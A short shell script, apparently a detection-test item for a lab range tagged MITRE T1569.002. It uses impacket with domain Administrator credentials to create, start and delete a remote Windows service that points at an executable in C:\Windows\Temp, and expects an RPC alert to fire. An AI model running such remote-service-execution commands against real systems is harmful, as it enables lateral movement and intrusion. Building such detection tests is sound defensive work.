# SPDX-License-Identifier: Apache-2.0
# what: a service of win1 made, started, stopped and deleted with impacket services
# technique: T1569.002
# from: ws1
# accused: ws1,win1
# to: win1
# account: Administrator
# outcome: success
# must: alert rpc
. "$RANGE_HERE/item.sh"
s() { impacket services "CORP/Administrator:$ADMIN_PASSWORD@$win1" "$@"; }
says 'Creating' s create -name upd -display upd -path 'C:\Windows\Temp\svc.exe' || exit 1
s start -name upd
s delete -name upd
true
